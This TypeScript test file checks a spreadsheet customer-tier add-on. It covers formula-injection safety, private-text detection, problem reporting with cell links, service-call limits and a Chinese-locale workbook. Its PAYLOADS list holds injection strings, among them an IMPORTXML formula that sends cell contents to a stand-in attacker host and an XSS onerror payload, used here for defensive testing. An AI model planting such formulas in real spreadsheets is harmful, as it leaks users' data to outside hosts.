/** Text that is dangerous, private or in another language, in every text column of a workbook. */
import { describe, expect, it } from 'vitest'
import type { Host } from '../../playground/host.ts'
import type { Value } from '../../playground/workbook/cell.ts'
import { Workbook } from '../../playground/workbook/workbook.ts'
import { cellOf, fill, openShop, readyShop, setUp, shopWorkbook, tabOf, update } from './shop.ts'

const PAYLOADS = [
  '=IMPORTXML("http://evil.example/"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  "'=1",
  '\t=1',
  '＝1+1',
  '=HYPERLINK("http://evil.example","x")',
  '<img src=x onerror=alert(1)>',
]

describe('formula payloads', () => {
  it('in every text column become no formula in any owned column or tab', () => {
    const workbook = new Workbook({ locale: 'en_US' })
    const orders: Value[][] = [
      ['Order ID', 'Customer ID', 'Customer Name', 'Date', 'Amount', 'Category', 'Status', 'Currency'],
    ]
    PAYLOADS.forEach((text, k) => {
      orders.push([text, text, text, '2026-01-05', 10 + k, text, text, text.slice(0, 9)])
      orders.push([`o${k}`, `c${k}`, text, text, text, text, text, ''])
      orders.push([`p${k}`, text, text, '2026-02-05', 5, text, 'paid', ''])
    })
    fill(workbook, 'Orders', orders)
    const host = openShop(workbook)
    setUp(host, {
      columns: ['segment', 'tier', 'nextContact', 'why'],
      settings: { tiers: { levels: PAYLOADS.slice(0, 3).map((name, k) => ({ name, up: k * 12 })) } },
    })
    expect(update(host).problems).toBeGreaterThan(10)
    expect(update(host).changedCells).toBe(0)
    for (const name of ['Customers', 'Problems', 'Regulars memory']) {
      const sheet = tabOf(workbook, name)
      for (let row = 1; row <= sheet.lastRow(); row++) {
        for (let column = 1; column <= sheet.lastColumn(); column++) {
          expect(sheet.look(row, column)?.formula, `${name} ${row}/${column}`).toBeUndefined()
          const link = sheet.look(row, column)?.link
          if (name !== 'Problems' || column !== 2) expect(link).toBeUndefined()
          else if (link) expect(link).toMatch(/^#gid=\d+&range=[A-Z]\d+$/)
        }
      }
    }
    const customers = tabOf(workbook, 'Customers')
    // Spaces and control characters around a name are no part of it.
    const names = customers
      .values()
      .slice(1, -1)
      .map((row) => row[1])
    for (const name of names)
      expect(PAYLOADS.map((text) => text.trim().replace(/^'/, ''))).toContain(String(name).replace(/^'/, ''))
  })

  it('typed over a tier stay text in the override column', () => {
    const host = readyShop()
    update(host)
    const sheet = tabOf(host.workbook, 'Customers')
    sheet.setValue(2, sheet.columnOf('Tier'), '=IMPORTXML("x")')
    update(host)
    expect(String(cellOf(sheet, 'C001', 'Tier override'))).toMatch(/^'?=IMPORTXML/)
    expect(sheet.look(2, sheet.columnOf('Tier override'))?.formula).toBeUndefined()
  })
})

/** Without those that make links, which stay within the script: four a link. */
function callsOf({ counts }: Host): number {
  const inScript = Object.keys(counts.byMethod).filter((method) => /RichText/.test(method) && !/^Range\./.test(method))
  return counts.serviceCalls - inScript.reduce((sum, method) => sum + counts.byMethod[method], 0)
}

describe('problems', () => {
  const dirty = () => {
    const workbook = shopWorkbook()
    const orders = tabOf(workbook, 'Orders')
    orders.setValue(1, 6, 'Status')
    orders.setValue(3, 3, 'Canary Nameless called')
    orders.setValue(4, 4, 'about the parcel for Mrs Canaryperson in the blue house')
    orders.setValue(5, 5, 'for canary@person.example')
    orders.setValue(6, 6, 'Canarystatus')
    orders.setValue(7, 2, '')
    return workbook
  }

  it('name tab, row, column and the cell’s own text, and nothing of it travels', () => {
    const host = readyShop(dirty())
    const report = update(host)
    expect(report.problemsByCode).toEqual({ badDate: 1, privateText: 2, unknownStatus: 1, missingId: 1 })
    expect(host.requests.map(({ text }) => text).join()).not.toMatch(/canary/i)
    const tab = tabOf(host.workbook, 'Problems')
    const lines = tab
      .values()
      .slice(2)
      .map((row) => row.slice(0, 4))
    expect(tab.value(1, 1)).toMatch(/^5 cells to look at\./)
    expect(lines).toContainEqual(['Orders', '3', 'Order date', 'Canary Nameless called'])
    expect(lines).toContainEqual(['Orders', '5', 'Category', 'for canary@person.example'])
    expect(lines).toContainEqual(['Orders', '7', 'Customer ID', ''])
    expect(lines[0]).toEqual(['Possibly private: 2', '', '', ''])
    expect(lines[1][2]).toMatch(/Amount|Category/)
  })

  it('lead each to its cell', () => {
    const host = readyShop(dirty())
    update(host)
    const tab = tabOf(host.workbook, 'Problems')
    const linked = tab.values().flatMap(([name, row, header], k) => {
      const link = tab.look(k + 1, 2)?.link
      return link ? [[name, row, header, link]] : []
    })
    expect(linked).toHaveLength(5)
    for (const [name, row, header, link] of linked) {
      const sheet = tabOf(host.workbook, String(name))
      const letter = 'ABCDEFGH'[sheet.columnOf(String(header)) - 1]
      expect(link).toBe(`#gid=${sheet.id}&range=${letter}${row}`)
    }
    // Fewer lines leave no link behind.
    tabOf(host.workbook, 'Orders').setValue(3, 3, '2026-01-05')
    update(host)
    expect(tab.rows.flatMap(({ looks }) => looks.filter((look) => look?.link)).length).toBe(4)
  })

  it('stand under a heading per kind that says once what to do', () => {
    const host = readyShop(dirty())
    update(host)
    const tab = tabOf(host.workbook, 'Problems')
    const headings = tab.values().flatMap((row, k) => (k > 1 && row[4] !== '' ? [[k + 1, ...row]] : []))
    expect(headings.map(([, kind]) => kind)).toEqual([
      'Possibly private: 2',
      'No customer: 1',
      'Not a date: 1',
      'Unknown status: 1',
    ])
    // The conditional format that makes them bold looks at this column.
    expect(tab.rules.map(({ arguments: [formula] }) => formula)).toEqual(['=AND($E1<>"",OR($B1="",ROW()=2))'])
    expect(tab.value(2, 5)).toBe('What to do')
  })

  it('of a birthday name its spellings, a lunar one’s too, beside another date and alone', () => {
    const workbook = shopWorkbook()
    const customers = tabOf(workbook, 'Customers')
    const orders = tabOf(workbook, 'Orders')
    const column = customers.lastColumn() + 1
    const cells = ['Birthday', '八月十五', '农历八月十五']
    for (const [k, text] of cells.entries()) customers.setValue(k + 1, column, text)
    orders.setValue(3, 3, 'one fine day')
    const host = openShop(workbook)
    setUp(host, { columns: ['nextContact'] })
    const told = () => {
      update(host)
      const lines = tabOf(host.workbook, 'Problems').values().slice(2)
      return lines.flatMap(([first, , , found, what]) => (first === '' ? [] : [[found, what]]))
    }
    const birthday = expect.stringMatching(/03-05.*L:08-15.*农历八月十五/)
    expect(told()).toEqual([
      ['', 'Enter a date such as 2026-03-05.'],
      ['八月十五', birthday],
      ['one fine day', ''],
    ])
    tabOf(host.workbook, 'Orders').setValue(3, 3, '2026-01-05')
    expect(told()).toEqual([
      ['', birthday],
      ['八月十五', ''],
    ])
    expect(host.requests.map(({ text }) => text).join()).toContain('L:08-15')
  })

  it('take the same few service calls however many there are', () => {
    const calls = [10, 890].map((bad) => {
      const workbook = shopWorkbook()
      const orders = tabOf(workbook, 'Orders')
      for (let k = 0; k < bad; k++)
        for (const [c, value] of ['x', 'C001', 'soon', k % 2 ? 'a lot' : '', 'Tea'].entries())
          orders.setValue(100 + k, c + 1, value)
      const host = readyShop(workbook)
      expect(update(host).problems).toBeGreaterThanOrEqual(bad)
      expect(tabOf(workbook, 'Problems').lastRow()).toBeLessThan(1010)
      const first = callsOf(host)
      orders.setValue(100, 4, 'nothing')
      host.resetCounts()
      update(host)
      return [first, callsOf(host)]
    })
    expect(calls[1]).toEqual(calls[0])
    // The first update writes every owned cell as well.
    const [first, later] = calls[1]
    expect(first).toBeLessThanOrEqual(51)
    expect(later).toBeLessThanOrEqual(40)
  })

  it('vanish from the tab when the rows are put right, and it stays hidden where there were none', () => {
    const clean = readyShop()
    update(clean)
    expect(tabOf(clean.workbook, 'Problems')).toMatchObject({ hidden: true })
    expect(tabOf(clean.workbook, 'Problems').lastRow()).toBe(0)
    const host = readyShop(dirty())
    update(host)
    expect(tabOf(host.workbook, 'Problems').hidden).toBe(false)
    const orders = tabOf(host.workbook, 'Orders')
    const right = tabOf(shopWorkbook(), 'Orders')
    for (let row = 2; row <= 8; row++)
      for (let column = 1; column <= 6; column++) orders.setValue(row, column, right.value(row, column))
    expect(update(host).problems).toBe(0)
    expect(
      tabOf(host.workbook, 'Problems')
        .values()
        .flat()
        .filter((value) => value !== ''),
    ).toEqual(['No cell needs a look.'])
  })
})

describe('a Chinese workbook', () => {
  it('is read and written in Chinese, and either language is understood in a typed cell', () => {
    const workbook = new Workbook({ locale: 'zh_CN', timeZone: 'Asia/Shanghai' })
    const orders: Value[][] = [['订单号', '客户编号', '姓名', '下单时间', '实付', '品类', '状态']]
    for (let k = 0; k < 12; k++)
      orders.push([
        `d${k}`,
        `客${k % 4}`,
        `王小${k}`,
        `2026/${(k % 9) + 1}/${k + 1}`,
        `¥${100 + k}`,
        '奶粉',
        k === 5 ? '已退款' : '已完成',
      ])
    fill(workbook, '订单', orders)
    const host = openShop(workbook, { userLocale: 'zh_CN' })
    host.run('onOpen')
    expect(host.menus[0]).toMatchObject({ caption: '常客' })
    setUp(host)
    expect(update(host).problems).toBe(0)
    const sheet = tabOf(workbook, '客户')
    expect(sheet.values()[0].slice(0, 5)).toEqual(['客户编号', '姓名', '客户分群', '会员等级', '下次联系'])
    expect(String(cellOf(sheet, '客0', '客户分群', '客户编号'))).toMatch(/客户|忠诚|流失|关注/)
    expect(host.requests.map(({ text }) => text).join()).not.toMatch(/王小|客0/)
    sheet.setValue(2, 3, 'Champions')
    expect(update(host).typedCells).toBe(1)
    expect(sheet.value(2, 3)).toBe('冠军客户')
    expect(cellOf(sheet, '客0', '指定分群原因', '客户编号')).toBe('2026-11-22 手动输入')
    expect(host.toasts[host.toasts.length - 1].message).toMatch(/^客户 4 位/)
  })
})
